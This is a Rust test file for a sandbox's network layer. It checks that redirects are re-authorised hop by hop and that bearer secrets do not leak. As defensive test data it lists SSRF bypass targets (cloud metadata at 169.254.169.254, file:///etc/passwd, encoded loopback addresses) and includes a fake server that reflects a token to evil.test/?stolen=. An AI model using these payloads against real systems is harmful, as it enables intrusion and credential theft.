//! Redirects: the host follows none, and each one that a guest follows is decided anew. N08, N09, X11.

use crate::network::encode::unveiled;
use crate::network::lab::{Grant, Lab, Plan, answered, denied, to, with};
use portcullis_tests::net::{Behaviour, Server};
use serde_json::{Value, json};

const SECRET: &str = "tok-8c1f0a5e9d7b4326";

/// The host passes a redirect to the guest, and does not follow it.
#[tokio::test]
async fn n08_the_host_follows_no_redirect() {
    let target = Server::plain(Behaviour::ok());
    for status in [301, 302, 303, 307, 308] {
        let location = format!("http://good.test:{}/next", target.port());
        let server = Server::plain(Behaviour::redirect(status, location.as_str()));
        let grant = Grant::to(&["good.test"], &server).set("ports", &format!("[{}, {}]", server.port(), target.port()));
        let lab = Lab::open(grant).await;
        lab.dns.point("good.test", &["127.0.0.1"]);
        let result = lab.one(to("good.test", &server, "/")).await;
        answered(&result, status);
        assert!(result["headers"].as_array().unwrap().contains(&json!(["location", location])), "{result}");
    }
    target.saw_nothing();
}

/// A guest that follows a redirect to a denied destination is denied there.
#[tokio::test]
async fn n08_each_hop_is_decided_separately() {
    let trap = Server::plain(Behaviour::ok());
    let trap_v6 = Server::plain_v6(Behaviour::ok());
    let port = trap.port();
    for location in [
        format!("http://127.0.0.1:{port}/"),
        format!("http://localhost:{port}/"),
        format!("http://good.test:{port}/"),
        format!("http://evil.test:{port}/"),
        format!("http://user@good.test:{port}/"),
        format!("http://2130706433:{port}/"),
        format!("http://[::ffff:127.0.0.1]:{port}/"),
        format!("http://[::1]:{}/", trap_v6.port()),
        format!("https://good.test:{port}/"),
        format!("ftp://good.test:{port}/"),
        "http://169.254.169.254/latest/meta-data/".to_owned(),
        "file:///etc/passwd".to_owned(),
    ] {
        let server = Server::plain(Behaviour::redirect(302, location.as_str()));
        let lab = Lab::good(&server).await;
        let result = lab.one(with(to("good.test", &server, "/"), &json!({ "follow": 5 }))).await;
        assert_eq!(result["hops"], json!([location]), "{result}");
        denied(&result);
        assert_eq!(server.connections(), 1);
    }
    trap.saw_nothing();
    trap_v6.saw_nothing();
}

/// A redirect to a granted destination can be followed.
#[tokio::test]
async fn n08_a_granted_hop_is_reached() {
    let target = Server::plain(Behaviour::ok());
    let server = Server::plain(Behaviour::redirect(302, format!("http://other.test:{}/next", target.port())));
    let ports = format!("[{}, {}]", server.port(), target.port());
    let lab = Lab::open(Grant::to(&["good.test", "other.test"], &server).set("ports", &ports)).await;
    lab.dns.point("good.test", &["127.0.0.1"]);
    lab.dns.point("other.test", &["127.0.0.1"]);
    let result = lab.one(with(to("good.test", &server, "/"), &json!({ "follow": 5 }))).await;
    answered(&result, 200);
    assert!(target.texts()[0].starts_with("GET /next HTTP/1.1\r\n"), "{:?}", target.texts());
}

/// A loop ends at the call's limit on requests.
#[tokio::test]
async fn n08_a_loop_ends() {
    let server = Server::plain(Behaviour::redirect(302, "/again"));
    let lab = Lab::open(Grant::to(&["good.test"], &server).set("requests", "7")).await;
    lab.dns.point("good.test", &["127.0.0.1"]);
    let result = lab.one(with(to("good.test", &server, "/"), &json!({ "follow": 1000 }))).await;
    denied(&result);
    assert_eq!(result["hops"].as_array().unwrap().len(), 7);
    assert_eq!(server.seen().requests.len(), 7);
}

/// A secret belongs to its host. Another granted host does not get it, even after a redirect.
#[tokio::test]
async fn n09_a_secret_does_not_follow_to_another_host() {
    let target = Server::plain(Behaviour::ok());
    let location = format!("http://other.test:{}/next", target.port());
    let server = target.beside("127.0.0.2", Behaviour::redirect(307, location));
    let secret = "{ host = \"good.test\", header = \"authorization\", value = \"Bearer {}\", from = \"file:token\" }";
    let grant = Grant::to(&["good.test", "other.test"], &server).set("secret", secret);
    let lab = Plan::new().await.file("token", SECRET).grant("api", grant).open().await;
    lab.dns.point("good.test", &["127.0.0.2"]);
    lab.dns.point("other.test", &["127.0.0.1"]);
    let result = lab.one(with(to("good.test", &server, "/"), &json!({ "follow": 5 }))).await;
    answered(&result, 200);
    assert!(server.texts()[0].contains(&format!("authorization: Bearer {SECRET}\r\n")), "{:?}", server.texts());
    assert_eq!(target.seen().requests.len(), 1);
    assert!(!target.seen().heard(SECRET.as_bytes()), "{:?}", target.texts());
    assert!(!target.texts()[0].to_ascii_lowercase().contains("authorization"), "{:?}", target.texts());
}

/// The host sends no referrer, and a Location that echoes the secret is redacted.
#[tokio::test]
async fn x11_nothing_leaks_through_location_or_referer() {
    let reflecting = |request: &[u8]| {
        let text = String::from_utf8_lossy(request).into_owned();
        let line = text.lines().find(|line| line.to_ascii_lowercase().starts_with("authorization:"));
        let token = line.and_then(|line| line.rsplit(' ').next()).unwrap_or("none").to_owned();
        Behaviour::whole(302, &[("location", &format!("http://evil.test/?stolen={token}"))], "")
    };
    let server = Server::plain(Behaviour::answer(reflecting));
    let secret = "{ host = \"good.test\", header = \"authorization\", value = \"Bearer {}\", from = \"file:token\" }";
    let grant = Grant::to(&["good.test"], &server).set("secret", secret);
    let lab = Plan::new().await.file("token", SECRET).grant("api", grant).open().await;
    lab.dns.point("good.test", &["127.0.0.1"]);
    let request = with(to("good.test", &server, "/a"), &json!({ "veil": true }));
    let result = unveiled(lab.one(request.clone()).await);
    assert!(server.seen().heard(SECRET.as_bytes()));
    assert!(result["headers"].to_string().contains("http://evil.test/?stolen="), "{result}");
    assert!(!result.to_string().contains(SECRET), "{result}");
    let result = lab.one(with(request, &json!({ "follow": 1 }))).await;
    assert_ne!(result["hops"], Value::Array(Vec::new()));
    denied(&result);
    let texts = server.texts();
    assert!(texts.iter().all(|text| !text.to_ascii_lowercase().contains("referer")), "{texts:?}");
    assert_eq!(lab.dns.asked().iter().filter(|name| *name == "evil.test").count(), 0);
}
